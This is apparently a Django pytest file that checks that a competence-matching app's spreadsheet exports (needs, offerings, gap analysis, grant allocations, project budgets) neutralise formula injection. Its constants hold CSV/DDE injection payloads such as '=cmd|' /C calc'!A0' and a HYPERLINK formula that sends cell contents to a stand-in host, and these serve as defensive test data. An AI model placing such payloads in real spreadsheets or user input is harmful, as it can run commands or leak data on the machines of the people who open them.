"""Formula injection (issue 11 item 2): text typed by anyone goes through every spreadsheet export — needs,
offerings and organisations (.xlsx and CSV, anonymous too), the gap analysis (.xlsx and CSV), a mapping round,
a grant round's allocations (anonymous) and payments, a project's budget — and comes out as text that no
spreadsheet runs: no formula cell in an .xlsx, no CSV field starting with = + - @ tab or CR."""

import csv
import datetime
import io
import pathlib
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from kompetansebro.competences.models import CompetenceField
from kompetansebro.core import spreadsheets
from kompetansebro.grants.models import AllocationStatus, PaymentStatus
from kompetansebro.grants.services import payments as payment_services
from kompetansebro.mapping import services as mapping_services
from kompetansebro.mapping.models import RoundInvitation
from kompetansebro.projects.models import ActualCost, FinancingKind
from kompetansebro.transfer import readers
from tests.factories import MatchStateFactory, NeedFactory, OfferingFactory
from tests.grant_factories import AllocationFactory, BudgetLineFactory, FinancingSourceFactory, ProjectFactory
from tests.test_grants_priorities import round_in

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Klikk")'
CMD = "=cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
TRIGGERS = tuple(spreadsheets.FORMULA_TRIGGERS)


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


def xlsx_cells(response):
    """Every non-empty cell of every sheet, after asserting that none of them is a formula."""
    workbook = load_workbook(io.BytesIO(body(response)))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert formulas == []
    return [cell for cell in cells if cell.value is not None]


def assert_safe_xlsx(response, *texts):
    cells = xlsx_cells(response)
    for text in texts:
        found = [cell for cell in cells if cell.value == text]
        assert found, f"{text!r} is missing"
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in found)
    return cells


def assert_safe_csv(response, *texts):
    rows = list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"), newline=""), delimiter=";"))
    fields = [field for row in rows for field in row]
    assert [field for field in fields if field.startswith(TRIGGERS)] == []
    for text in texts:
        assert "'" + text in fields, f"{text!r} is missing"
    return rows


@pytest.fixture
def hostile(world):
    """Hostile text in a public need, an offering and an organisation's name."""
    world.company.name = CMD
    world.company.save(update_fields=["name"])
    # The public title and description too: anonymous visitors export those (issue 11 item 14).
    need = NeedFactory(
        organisation=world.holtalen,
        title=HYPERLINK,
        description=AT,
        public_title=HYPERLINK,
        public_description=AT,
        visibility="public",
        persons=2,
    )
    need.tags.create(name=PLUS)
    OfferingFactory(provider=world.ntnu, title=MINUS, description=TAB, url="https://ntnu.no/")
    return need


@pytest.mark.parametrize("persona", ["anonymous", "secretariat_sor"])
@pytest.mark.parametrize("name", ["behov", "tilbud", "organisasjoner"])
def test_list_exports_neutralise_formulas_in_xlsx_and_csv(hostile, client_for, persona, name):
    expected = {"behov": [HYPERLINK, AT, PLUS], "tilbud": [MINUS, TAB], "organisasjoner": [CMD]}[name]
    client = client_for(persona)
    assert_safe_xlsx(client.get(reverse("transfer:export", args=[name, "xlsx"])), *expected)
    assert_safe_csv(client.get(reverse("transfer:export", args=[name, "csv"])), *expected)


def test_gap_export_neutralises_formulas(world, client_for):
    field = CompetenceField.objects.get(code="helse-og-omsorg")
    CompetenceField.objects.filter(pk=field.pk).update(name_nb=PLUS, name_en=PLUS)
    need = NeedFactory(organisation=world.holtalen, title=HYPERLINK, field=field)
    MatchStateFactory(need=need, best_score=0.1)
    client = client_for("secretariat_sor")
    assert_safe_xlsx(client.get(reverse("development:gap_export", args=[world.region.code, "xlsx"])), PLUS)
    assert_safe_csv(client.get(reverse("development:gap_export", args=[world.region.code, "csv"])), PLUS)


def test_mapping_round_export_neutralises_formulas(world, client_for):
    mapping_round = mapping_services.round_open(
        actor=world.users["secretariat_sor"],
        region=world.region,
        title="Behov før forumet",
        description="Registrer behovene.",
        deadline=timezone.localdate() + datetime.timedelta(days=14),
        organisations=[world.holtalen, world.roros],
    )
    mapping_services.round_register_need(
        actor=world.users["holtalen_contact"],
        round=mapping_round,
        organisation=world.holtalen,
        data={
            "title": HYPERLINK,
            "description": AT,
            "field": CompetenceField.objects.get(code="helse-og-omsorg"),
            "persons": 2,
            "visibility": "region",
        },
    )
    RoundInvitation.objects.filter(round=mapping_round, organisation=world.holtalen).update(answer_note=CMD)
    response = client_for("secretariat_sor").get(reverse("mapping:export", args=[mapping_round.pk]))
    assert_safe_xlsx(response, HYPERLINK, CMD)


def test_grant_round_exports_neutralise_formulas_and_keep_amounts_as_numbers(world, client_for):
    world.holtalen.name = AT
    world.holtalen.save(update_fields=["name"])
    allocation = AllocationFactory(
        round=round_in(world, status="decided"),
        recipient=world.holtalen,
        purpose=HYPERLINK,
        amount=Decimal("300000"),
        status=AllocationStatus.ADOPTED,
    )
    payment_services.payment_create(
        actor=None,
        allocation=allocation,
        kind="payment",
        amount=Decimal("1000"),
        status=PaymentStatus.PLANNED,
        reference=CMD,
    )
    url = reverse("grants:allocations_xlsx", args=[allocation.round.pk])
    cells = assert_safe_xlsx(client_for("anonymous").get(url), HYPERLINK, AT)
    assert 300000 in [cell.value for cell in cells if cell.data_type == "n"]
    url = reverse("grants:payments_xlsx", args=[allocation.round.pk])
    assert_safe_xlsx(client_for("secretariat_sor").get(url), HYPERLINK, AT, CMD)


def test_project_budget_export_neutralises_formulas_and_keeps_a_negative_remainder_a_number(world, client_for):
    project = ProjectFactory(owner=world.council, region=world.region, leader=None)
    line = BudgetLineFactory(project=project, description=HYPERLINK, amount=Decimal("15000"))
    FinancingSourceFactory(project=project, kind=FinancingKind.CASH, description=MINUS, amount=Decimal("5000"))
    ActualCost.objects.create(budget_line=line, incurred_on=project.starts_on, description=CMD, amount=Decimal("20000"))
    response = client_for("secretariat_sor").get(reverse("projects:budget_xlsx", args=[project.slug]))
    cells = assert_safe_xlsx(response, HYPERLINK, MINUS, CMD)
    remainder = [cell for cell in cells if cell.value == -5000]
    assert remainder and all(cell.data_type == "n" for cell in remainder)


def test_the_safe_writer_keeps_numbers_dates_and_plain_text_and_drops_control_characters():
    assert spreadsheets.csv_value(Decimal("-12.50")) == "-12,50"
    assert spreadsheets.csv_value(-3) == "-3"
    assert spreadsheets.csv_value("-3") == "'-3"
    assert spreadsheets.csv_value(CR) == "'" + CR
    assert spreadsheets.csv_value("Røros - Rosse") == "Røros - Rosse"
    workbook = spreadsheets.new_workbook()
    sheet = workbook.active
    spreadsheets.append_row(sheet, [Decimal("-5"), "Sag\x0bbruk", "=1+1", "vanlig tekst"])
    number, text, formula, plain = sheet[1]
    assert number.data_type == "n" and number.value == Decimal("-5")
    assert text.value == "Sagbruk"
    assert formula.data_type == "s" and formula.value == "=1+1" and formula.quotePrefix
    assert plain.data_type == "s" and not plain.quotePrefix


def test_a_neutralised_csv_value_imports_as_the_original_text():
    """An exported CSV can be imported again: the apostrophe the export added is not part of the text."""
    assert readers.parse_text(spreadsheets.csv_value(HYPERLINK)) == HYPERLINK
    assert readers.parse_text("'90-tallet") == "'90-tallet"


def test_every_spreadsheet_is_written_through_the_safe_writer():
    """A new export that builds its own workbook or CSV writer would bypass the neutralising."""
    package = pathlib.Path(spreadsheets.__file__).resolve().parent.parent
    pattern = re.compile(r"\bWorkbook\(|WriteOnlyCell|csv\.writer\(|csv\.DictWriter\(")
    offenders = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if path.name != "spreadsheets.py" and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
